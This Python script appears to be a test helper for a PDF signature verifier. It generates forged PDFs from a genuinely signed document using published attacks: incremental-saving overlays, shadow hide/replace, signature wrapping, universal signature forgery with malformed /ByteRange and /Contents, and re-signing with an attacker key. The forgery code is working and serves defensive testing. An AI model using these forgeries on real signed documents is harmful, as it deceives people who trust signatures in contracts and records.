#!/usr/bin/env python3
"""forge.py — the attacker's tool of tests/attacks.sh: makes, at test time,
each published attack on PDF signatures from a genuine signed dossier
(Mladenov et al. 2019 "1 Trillion Dollar Refund": Incremental Saving,
Signature Wrapping, Universal Signature Forgery; Mainka et al. 2021
"Shadow Attacks": hide, replace, hide-and-replace), well formed enough
that poppler shows the forged content.

    forge.py ATTACK IN.pdf OUT.pdf [CERT KEY]

Nothing here is trusted code of the product: it reads our own files with
regular expressions, as an attacker would."""
import re
import subprocess
import sys
import tempfile

BLACK_BOX = b"q 0 0 0 rg 60 560 470 120 re f Q\n"     # "forged" content over page 1
WHITE_ALL = b"q 1 1 1 rg 0 0 595.28 841.89 re f Q\n"   # hides everything


def trailer(d):
    t = d[d.rindex(b"trailer"):]
    size = int(re.search(rb"/Size (\d+)", t).group(1))
    root = int(re.search(rb"/Root (\d+) 0 R", t).group(1))
    info = re.search(rb"/Info (\d+) 0 R", t)
    ident = re.search(rb"/ID \[[^\]]*\]", t)
    sx = int(re.search(rb"startxref\s+(\d+)", d[d.rindex(b"startxref"):]).group(1))
    return size, root, info.group(1).decode() if info else None, ident.group(0) if ident else None, sx


def dict_of(d, num):
    """Text of the last definition of object num's dictionary."""
    at = d.rindex(b"\n%d 0 obj" % num) + 1
    i = d.index(b"<<", at)
    depth, j = 0, i
    while True:
        if d[j:j + 2] == b"<<":
            depth += 1
            j += 2
        elif d[j:j + 2] == b">>":
            depth -= 1
            j += 2
            if depth == 0:
                return d[i:j]
        else:
            j += 1


def first_page(d, root):
    pages = int(re.search(rb"/Pages (\d+) 0 R", dict_of(d, root)).group(1))
    return int(re.search(rb"/Kids \[\s*(\d+) 0 R", dict_of(d, pages)).group(1))


def stream(body):
    return b"<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream"


def update(d, objs, marker=b"", extra_trailer=b""):
    """d + an incremental update defining objs {num: bytes}."""
    size, root, info, ident, sx = trailer(d)
    out = bytearray(d)
    if not out.endswith(b"\n"):
        out += b"\n"
    out += marker
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for n in sorted(offs):
        out += b"%d 1\n%010d 00000 n\r\n" % (n, offs[n])
    new_size = max([size] + [n + 1 for n in objs])
    out += b"trailer\n<< /Size %d /Root %d 0 R " % (new_size, root)
    if info:
        out += b"/Info %s 0 R " % info.encode()
    if ident:
        out += ident + b" "
    out += extra_trailer + b"/Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (sx, xref)
    return bytes(out)


def with_contents(page_dict, extra):
    """The page dictionary with one more content stream drawn last."""
    m = re.search(rb"/Contents\s*(\[[^\]]*\]|\d+ 0 R)", page_dict)
    old = m.group(1).strip(b"[]").strip()
    return page_dict[:m.start()] + b"/Contents [" + old + b" " + extra + b"]" + page_dict[m.end():]


def isa(d, content=BLACK_BOX, marker=b""):
    size, root, *_ = trailer(d)
    page = first_page(d, root)
    return update(d, {size: stream(content), page: with_contents(dict_of(d, page), b"%d 0 R" % size)}, marker)


def shadow_replace(d):
    """Redefines the page's first content stream: same object, new text."""
    size, root, *_ = trailer(d)
    page = first_page(d, root)
    first = int(re.search(rb"/Contents\s*\[?\s*(\d+) 0 R", dict_of(d, page)).group(1))
    return update(d, {first: stream(BLACK_BOX)})


def shadow_hide_replace(d):
    """A new catalog whose page tree is one forged page."""
    size, root, *_ = trailer(d)
    page = first_page(d, root)
    cat = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % size, dict_of(d, root))
    pg = dict_of(d, page)
    pg = re.sub(rb"/Parent \d+ 0 R", b"/Parent %d 0 R" % size, pg)
    pg = re.sub(rb"/Contents\s*(\[[^\]]*\]|\d+ 0 R)", b"/Contents %d 0 R" % (size + 2), pg)
    return update(d, {size: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (size + 1), size + 1: pg,
                      size + 2: stream(BLACK_BOX), root: cat})


def broken_xref(d):
    out = isa(d)
    return out.replace(b"00000 n\r\n", b"99999 n\r\n", 1)


def sign(d, cert, key, content=None, name=b"Forger"):
    """An incremental update with a new, valid signature by cert/key over
    the whole file (optionally drawing content on page 1)."""
    size, root, *_ = trailer(d)
    page = first_page(d, root)
    sig, field = size, size + 1
    objs = {}
    pg = dict_of(d, page)
    if content is not None:
        objs[size + 2] = stream(content)
        pg = with_contents(pg, b"%d 0 R" % (size + 2))
    if b"/Annots" in pg:
        pg = re.sub(rb"/Annots \[", b"/Annots [%d 0 R " % field, pg)
    else:
        pg = pg[:-2] + b"/Annots [%d 0 R] >>" % field
    cat = dict_of(d, root)
    if b"/Fields [" in cat:
        cat = cat.replace(b"/Fields [", b"/Fields [%d 0 R " % field)
    else:
        cat = cat[:-2] + b"/AcroForm << /Fields [%d 0 R] /SigFlags 3 >> >>" % field
    hexlen = 16384
    objs[sig] = (b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (" + name +
                 b") /ByteRange [0 0000000000 0000000000 0000000000] /Contents <" + b"0" * hexlen + b"> >>")
    objs[field] = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Forged%d) /V %d 0 R /F 132 /Rect [0 0 0 0] /P %d 0 R >>" % (sig, sig, page)
    objs[page] = pg
    objs[root] = cat
    out = bytearray(update(d, objs))
    c = out.rindex(b"/Contents <" + b"0" * 64) + len(b"/Contents ")
    a, b = c, c + hexlen + 2
    br = b"[0 %010d %010d %010d]" % (a, b, len(out) - b)
    r = out.rindex(b"[0 0000000000 0000000000 0000000000]")
    out[r:r + len(br)] = br
    with tempfile.NamedTemporaryFile() as f:
        f.write(out[:a] + out[b:])
        f.flush()
        der = subprocess.run(["openssl", "cms", "-sign", "-binary", "-outform", "DER", "-md", "sha256",
                              "-signer", cert, "-inkey", key, "-in", f.name], check=True,
                             capture_output=True).stdout
    h = der.hex().upper().encode()
    out[a + 1:a + 1 + len(h)] = h
    return bytes(out)


def last_sig(d):
    m = list(re.finditer(rb"/ByteRange \[0 (\d+)\s+(\d+)\s+(\d+)\s*\]", d))[-1]
    return m, int(m.group(1)), int(m.group(2)), int(m.group(3))


def in_place(d, old, new):
    """Replaces bytes of the last signature dictionary, keeping length."""
    assert len(new) <= len(old)
    new = new + b" " * (len(old) - len(new))
    i = d.rindex(old)
    return d[:i] + new + d[i + len(old):]


def usf(d, what):
    m, a, b, c = last_sig(d)
    br = m.group(0)
    contents = d[a:b]
    if what == "contents-missing":
        return in_place(d, b"/Contents " + contents, b"/Contentz " + contents)
    if what == "contents-empty":
        return in_place(d, contents, b"<>")
    if what == "contents-null":
        return in_place(d, contents, b"null")
    if what == "range-null":
        return in_place(d, br, b"/ByteRange null")
    if what == "range-zero":
        return in_place(d, br, b"/ByteRange [0 0 0 0]")
    if what == "range-negative":
        return in_place(d, br, b"/ByteRange [0 %d %d -%d]" % (a, b, c))
    if what == "range-partial":
        return in_place(d, br, b"/ByteRange [0 %d %d %d]" % (a, b, c - 100))
    if what == "range-overflow":
        return in_place(d, br, b"/ByteRange[0 %d %d 9223372036854775807]" % (a, b))
    if what == "range-huge":           # past 2^63: not even a 64-bit signed integer
        sig = int(re.findall(rb"\n(\d+) 0 obj", d[:m.start()])[-1])
        return update(d, {sig: b"<< /Type /Sig /SubFilter /adbe.pkcs7.detached /ByteRange [0 18446744073709551000 %d %d] /Contents %s >>"
                          % (b, c, contents)})
    if what == "range-three":
        return in_place(d, br, b"/ByteRange [0 %d %d]" % (a, b))
    raise SystemExit("unknown USF variant " + what)


def padding_plus(d):
    """A zero of the /Contents padding changed to '+': the DER is intact."""
    m, a, b, c = last_sig(d)
    out = bytearray(d)
    out[b - 3] = ord("+")
    return bytes(out)


def swa(d):
    """Signature Wrapping: the signed bytes kept, the second signed part
    moved back so that the signed startxref now points into an enlarged
    /Contents gap, where the attacker's xref, signature dictionary (with a
    /ByteRange over the moved part) and forged page live."""
    m, a, b, c = last_sig(d)
    size, root, info, ident, sx = trailer(d)
    part1, gap, part2 = d[:a], d[a:b], d[b:b + c]
    # The revision's own xref section (ours: one entry per subsection).
    sect = d[sx:d.index(b"trailer", sx)]
    entries = {int(n): int(o) for n, o in re.findall(rb"(\d+) 1\s+(\d{10}) 00000 n", sect)}
    prev = int(re.search(rb"/Prev (\d+)", d[d.rindex(b"trailer"):]).group(1))
    sig = int(re.findall(rb"\n(\d+) 0 obj", d[:m.start()])[-1])  # the dictionary holding /Contents
    page = first_page(d, root)
    objs = [(size, b"%d 0 obj\n" % size + stream(BLACK_BOX) + b"\nendobj\n"),
            (page, b"%d 0 obj\n" % page + with_contents(dict_of(d, page), b"%d 0 R" % size) + b"\nendobj\n")]

    def fake_sig(newb):
        return b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 %d %010d %d] /Contents " % (
            sig, a, newb, c) + gap + b" >>\nendobj\n"
    objs.append((sig, fake_sig(0)))
    nums = sorted(set(entries) | {n for n, _ in objs})
    xref_len = len(b"xref\n") + len(nums) * len(b"%d 1\n%010d 00000 n\r\n" % (0, 0)) + sum(len(str(n)) for n in nums) - len(nums)
    tr = b"trailer\n<< /Size %d /Root %d 0 R " % (size + 1, root) + (b"/Info %s 0 R " % info.encode() if info else b"") + b"/Prev %d >>\n" % prev
    at = sx + xref_len + len(tr)      # where the attacker's objects start, after the xref at sx
    delta = at + sum(len(t) for _, t in objs) + 16 - b
    newb = b + delta
    objs[-1] = (sig, fake_sig(newb))
    offs = {}
    o = at
    for n, t in objs:
        offs[n] = o
        o += len(t)
    for n, off in entries.items():
        if n not in offs:
            offs[n] = off + delta if off >= b else off
    xref = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n\r\n" % (n, offs[n]) for n in sorted(offs)) + tr
    assert len(xref) == xref_len + len(tr), (len(xref), xref_len)
    body = bytearray(gap + b"\n")
    body += b" " * (sx - a - len(body))
    body += xref
    for _, t in objs:
        body += t
    body += b" " * (newb - a - len(body))
    return part1 + bytes(body) + part2 + d[b + c:]


def mini():
    """A minimal one-page PDF with an xref table and trailer /ID: small
    enough to seed the verify fuzz target (64 KiB inputs)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>", stream(b"0 0 1 rg 10 10 50 50 re f"),
            b"<< /Title (mini) >>"]
    out = bytearray(b"%PDF-1.4\n")
    offs = []
    for i, o in enumerate(objs):
        offs.append(len(out))
        out += b"%d 0 obj\n" % (i + 1) + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f\r\n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n\r\n" % o for o in offs)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 5 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
    return bytes(out)


def main():
    attack, src, dst = sys.argv[1:4]
    if attack == "mini":
        open(dst, "wb").write(mini())
        return
    d = open(src, "rb").read()
    rest = sys.argv[4:]
    if attack == "isa":
        out = isa(d)
    elif attack == "isa-marker":
        out = isa(d, marker=b"%dangan-archive-stamp\n")
    elif attack == "shadow-hide":
        out = isa(d, WHITE_ALL)
    elif attack == "shadow-replace":
        out = shadow_replace(d)
    elif attack == "shadow-hide-replace":
        out = shadow_hide_replace(d)
    elif attack == "broken-xref":
        out = broken_xref(d)
    elif attack == "sign":
        out = sign(d, rest[0], rest[1])
    elif attack == "sign-forged":
        out = sign(d, rest[0], rest[1], BLACK_BOX)
    elif attack == "cut":               # keep only the first rest[0] bytes
        out = d[:int(rest[0])]
    elif attack == "swa":
        out = swa(d)
    elif attack == "padding-plus":
        out = padding_plus(d)
    elif attack.startswith("usf-"):
        out = usf(d, attack[4:])
    else:
        raise SystemExit("unknown attack " + attack)
    open(dst, "wb").write(out)


if __name__ == "__main__":
    main()
